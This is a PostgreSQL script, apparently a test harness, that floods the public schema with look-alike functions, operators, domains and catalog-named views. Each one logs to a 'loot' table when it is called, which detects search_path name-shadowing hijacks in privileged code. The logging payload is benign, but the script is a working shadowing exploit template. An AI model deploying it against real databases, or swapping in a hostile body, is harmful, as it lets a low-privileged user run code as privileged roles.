-- What somebody makes who may CREATE in the schema public and nothing else: whatever the sink might take for its own.
-- Each function takes down that it ran. Settings: attack.functions and attack.relations name what the sink's SQL names.

CREATE SEQUENCE public.taken;
GRANT USAGE ON SEQUENCE public.taken TO PUBLIC;
CREATE TABLE public.loot (who pg_catalog.text, what pg_catalog.text);
GRANT INSERT ON public.loot TO PUBLIC;

CREATE FUNCTION public.take(what pg_catalog.text) RETURNS bool LANGUAGE plpgsql AS $$
BEGIN
    PERFORM pg_catalog.nextval('public.taken');
    INSERT INTO public.loot VALUES (current_user, what);
    RETURN true;
END $$;

DO $$
DECLARE
    types oid[] := '{text,varchar,bpchar,name,jsonb,json,int2,int4,int8,numeric,float8,uuid,bytea,timestamptz,timestamp,
        date,interval,bool,oid,xid8,regclass,"\"char\"",text[],varchar[],name[],int4[],int8[],int2[],uuid[],bytea[]}'::regtype[];
    made record;
BEGIN
    -- Functions of one name, by every argument and every pair of them, and as they are in pg_catalog.
    FOR made IN
        WITH named AS (
            SELECT pg_catalog.unnest(pg_catalog.string_to_array(pg_catalog.current_setting('attack.functions'), ',')) AS f
        ), signatures AS (
            SELECT f, pg_catalog.format_type(a, NULL) AS args, a AS result FROM named, pg_catalog.unnest(types) AS a
            UNION
            SELECT f, pg_catalog.format('%s, %s', a::regtype, b::regtype), a
            FROM named, pg_catalog.unnest(types) AS a, pg_catalog.unnest(types[1:9]) AS b
            UNION
            SELECT f, pg_catalog.format('VARIADIC %s[]', a::regtype), a FROM named, pg_catalog.unnest(types[1:9]) AS a
            UNION
            SELECT f, pg_catalog.oidvectortypes(p.proargtypes), p.prorettype FROM named
            JOIN pg_catalog.pg_proc AS p ON p.proname OPERATOR(pg_catalog.=) f::name
            JOIN pg_catalog.pg_type AS t ON t.oid OPERATOR(pg_catalog.=) p.prorettype
            WHERE p.pronamespace OPERATOR(pg_catalog.=) 'pg_catalog'::regnamespace
                AND t.typtype OPERATOR(pg_catalog.<>) 'p' AND NOT EXISTS (
                    SELECT FROM pg_catalog.pg_type AS x WHERE x.oid OPERATOR(pg_catalog.=) ANY (p.proargtypes::oid[])
                        AND x.typtype OPERATOR(pg_catalog.=) 'p'
                )
        )
        SELECT DISTINCT ON (f, args) pg_catalog.format(
            'CREATE OR REPLACE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS '
            '$f$BEGIN PERFORM public.take(%L); RETURN NULL; END$f$',
            f, args, result::regtype, f OPERATOR(pg_catalog.||) '(' OPERATOR(pg_catalog.||) args
        ) AS it FROM signatures
    LOOP
        BEGIN
            EXECUTE made.it;
        EXCEPTION WHEN invalid_function_definition THEN
            NULL; -- one with the same arguments is there: VARIADIC or not
        END;
    END LOOP;

    -- Operators of every name, between every two types.
    FOR made IN
        SELECT a::regtype AS l, b::regtype AS r, pg_catalog.row_number() OVER () AS number
        FROM pg_catalog.unnest(types) AS a, pg_catalog.unnest(types) AS b
    LOOP
        EXECUTE pg_catalog.format(
            'CREATE FUNCTION public.o%s(%s, %s) RETURNS bool LANGUAGE plpgsql AS $f$BEGIN RETURN public.take(%L); END$f$',
            made.number, made.l, made.r, 'operator ' OPERATOR(pg_catalog.||) made.l::pg_catalog.text OPERATOR(pg_catalog.||) ' ' OPERATOR(pg_catalog.||) made.r::pg_catalog.text
        );
        EXECUTE pg_catalog.format(
            'CREATE FUNCTION public.v%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS $f$BEGIN PERFORM public.take(%L); RETURN NULL; END$f$',
            made.number, made.l, made.r, made.l, 'operator ' OPERATOR(pg_catalog.||) made.l::pg_catalog.text OPERATOR(pg_catalog.||) ' ' OPERATOR(pg_catalog.||) made.r::pg_catalog.text
        );
    END LOOP;
    FOR made IN
        SELECT op.name, op.f, o.l, o.r, o.number
        FROM (SELECT a::regtype AS l, b::regtype AS r, pg_catalog.row_number() OVER () AS number
              FROM pg_catalog.unnest(types) AS a, pg_catalog.unnest(types) AS b) AS o,
            (VALUES ('=', 'o'), ('<>', 'o'), ('<', 'o'), ('>', 'o'), ('<=', 'o'), ('>=', 'o'), ('~', 'o'), ('~*', 'o'),
                ('~~', 'o'), ('!~~', 'o'), ('+', 'v'), ('-', 'v'), ('*', 'v'), ('/', 'v'), ('%', 'v'), ('||', 'v'),
                ('->', 'v'), ('->>', 'v'), ('#>', 'v'), ('#>>', 'v'), ('>>', 'v'), ('<<', 'v'), ('&', 'v')) AS op (name, f)
    LOOP
        EXECUTE pg_catalog.format(
            'CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.%s%s)',
            made.name, made.l, made.r, made.f, made.number
        );
    END LOOP;

    -- What a path with public before pg_catalog finds first: types and the catalog's own relations.
    FOR made IN SELECT pg_catalog.unnest('{text,jsonb,json,uuid,bytea,regclass,name,oid,int8,int4,float8}'::pg_catalog.text[]) AS it
    LOOP
        EXECUTE pg_catalog.format('CREATE DOMAIN public.%I AS pg_catalog.%I CHECK (public.take(%L))', made.it, made.it, made.it);
    END LOOP;
    FOR made IN SELECT pg_catalog.unnest(pg_catalog.string_to_array(pg_catalog.current_setting('attack.relations'), ',')) AS it
    LOOP
        BEGIN
            EXECUTE pg_catalog.format(
                'CREATE VIEW public.%I AS SELECT * FROM pg_catalog.%I WHERE public.take(%L)', made.it, made.it, made.it
            );
        EXCEPTION WHEN invalid_table_definition THEN -- a column of it is of a pseudo-type
            EXECUTE pg_catalog.format(
                'CREATE VIEW public.%I AS SELECT oid FROM pg_catalog.pg_class WHERE public.take(%L)', made.it, made.it
            );
        END;
        EXECUTE pg_catalog.format('GRANT SELECT ON public.%I TO PUBLIC', made.it);
    END LOOP;
END $$;
